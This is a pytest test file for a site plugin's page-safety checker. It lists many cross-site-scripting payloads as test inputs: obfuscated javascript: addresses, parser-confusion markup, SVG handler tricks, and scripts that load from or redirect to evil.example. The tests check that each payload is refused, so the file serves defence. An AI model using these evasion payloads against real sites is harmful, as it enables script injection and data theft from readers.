"""The pages' policy on its own, on the forms a browser reads as a script address however they are
written (character references, tabs and line breaks inside, control characters before), and on pages
of ordinary text that only look like them, which it publishes."""

from __future__ import annotations

import pytest

from plugins.safety.page_policy import UnsafePage, check_and_protect


def _page(body: str) -> str:
    return f'<!doctype html>\n<html lang="en"><head><title>Page</title></head><body>{body}</body></html>'


ADDRESSES = [
    "javascript:alert(1)",
    "jav&#97;script:alert(1)",
    "&#106;avascript:alert(1)",
    " &#x6A;avascript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "javascript&colon;alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "\x1f JavaScript:alert(1)",
    "vb&#115;cript:msgbox(1)",
    "data&colon;text/html,<script>alert(1)</script>",
]
# Quoted both ways, and unquoted where the address has no space or tag, which would end the value.
WRITTEN = [(a, q) for a in ADDRESSES for q in ('"', "'", "") if q or not any(c in a for c in " \t\n<>")]


@pytest.mark.parametrize(("address", "quote"), WRITTEN)
def test_a_script_address_however_it_is_written_is_refused(address: str, quote: str):
    with pytest.raises(UnsafePage) as refused:
        check_and_protect(_page(f"<a href={quote}{address}{quote}>Home</a>"), "news/index.html")
    assert str(refused.value).startswith("news/index.html: an attribute holds a script address (")
    assert str(refused.value).endswith("), which would run script in every reader's browser.")


@pytest.mark.parametrize(
    "body",
    [
        "<p>The strategy will be refreshed in 2031.</p>",
        '<a href="/news/" title="Children&#39;s services &amp; SEND">What&#39;s new</a>',
        "<p>Say javascript then a colon, and nothing runs: javascript</p>",
        '<img src="picture.svg" alt="A tab&#9;in words">',
    ],
)
def test_ordinary_text_that_looks_like_it_is_published_with_its_policy(body: str):
    protected = check_and_protect(_page(body), "news/index.html")
    assert protected.count('<meta http-equiv="Content-Security-Policy"') == 1
    assert body in protected


HANDLER = "an element has an event handler (onerror=)"
FETCHED = "the page would fetch https://evil.example/x.png from elsewhere"
# Pages a browser reads otherwise than a reading of their text would: each was published before the
# pages were read as the HTML standard reads them, and ran script or fetched from another site in Chromium.
READ_AS_A_BROWSER_READS = [
    ("<!--><img src=x onerror=alert(1)>-->", HANDLER),
    ("<!---><img src=x onerror=alert(1)>-->", HANDLER),
    ("<!-- x --!><img src=x onerror=alert(1)>-->", HANDLER),
    ("<![CDATA[ x ><img src=x onerror=alert(1)> ]]>", HANDLER),
    ("<svg><style><img src=x onerror=alert(1)></style></svg>", HANDLER),
    ("<style>a{}</style x><img src=x onerror=alert(1)></style>", HANDLER),
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', HANDLER),
    ('<title>t</title><textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>', HANDLER),
    ("<a title==' onclick=alert(1) x='' id=t>Home</a>", "an element has an event handler (onclick=)"),
    ('<svg><a><animate attributeName=href values="x;jav&#x61;script:alert(1)" dur="1s"/><text>Home</text></a></svg>', "script address"),
    ("<svg><set attributeName=onclick to=alert(1) /></svg>", "an element has an event handler (onclick=)"),
    ('<script x:src="assets/javascripts/a.js" src="https://evil.example/x.js"></script>', "loads a script from https://evil.example/x.js"),
    (
        '<script title=\'src="assets/javascripts/a.js"\' src="https://evil.example/x.js"></script>',
        "loads a script from https://evil.example/x.js",
    ),
    ('<script x:type="application/json">alert(1)</script>', "an inline script the theme did not write"),
    ('<script title="type=application/json">alert(1)</script>', "an inline script the theme did not write"),
    ('<svg><script href="https://evil.example/x.js"></script></svg>', "loads a script from https://evil.example/x.js"),
    (
        '<script>window.location.replace(["https://evil.example/",window.location.search,window.location.hash].join(""))</script>',
        "an inline script the theme did not write",
    ),
    ('<img src="a.png" srcset="https://evil.example/x.png 2x">', FETCHED),
    ('<video src="a.mp4" poster="https://evil.example/x.png"></video>', FETCHED),
    ('<img src="&#47;/evil.example/x.png">', "the page would fetch //evil.example/x.png"),
    ('<img src="https&colon;//evil.example/x.png">', FETCHED),
    ('<img src="/\t/evil.example/x.png">', "the page would fetch //evil.example/x.png"),
    ('<img src="\x01//evil.example/x.png">', "the page would fetch //evil.example/x.png"),
    ('<link title="rel=canonical" rel=stylesheet href="https://evil.example/x.css">', "the page would fetch https://evil.example/x.css"),
    ('<div style="background:url(https://evil.example/x.png)">x</div>', FETCHED),
    ("<style>@import url(https://evil.example/x.css);</style>", "the page would fetch https://evil.example/x.css"),
    ("<style>a{background:\\75 rl(https://evil.example/x.png)}</style>", "a style has a backslash escape"),
    ('<table background="https://evil.example/x.png"><tr><td>x</td></tr></table>', FETCHED),
    ('<a href="data: text/html,<script>alert(1)</script>">Home</a>', "script address (data: text/"),
    ('<template shadowrootmode="open"><img src=x onerror=alert(1)></template>', "the page has a <template> element"),
]


@pytest.mark.parametrize(("body", "said"), READ_AS_A_BROWSER_READS)
def test_a_page_is_checked_as_a_browser_reads_it(body: str, said: str):
    with pytest.raises(UnsafePage) as refused:
        check_and_protect(_page(body), "news/index.html")
    assert str(refused.value).startswith("news/index.html: ")
    assert said in str(refused.value)


def test_a_noscript_message_is_published_and_checked_as_a_browser_without_script_reads_it():
    message = '<noscript><p>Search needs JavaScript. Without it, find a strategy from the <a href="..">list</a>.</p></noscript>'
    assert message in check_and_protect(_page(message), "search/index.html")
    with pytest.raises(UnsafePage, match="the page would fetch https://evil.example/x.png"):
        check_and_protect(_page('<noscript><img src="https://evil.example/x.png"></noscript>'), "search/index.html")
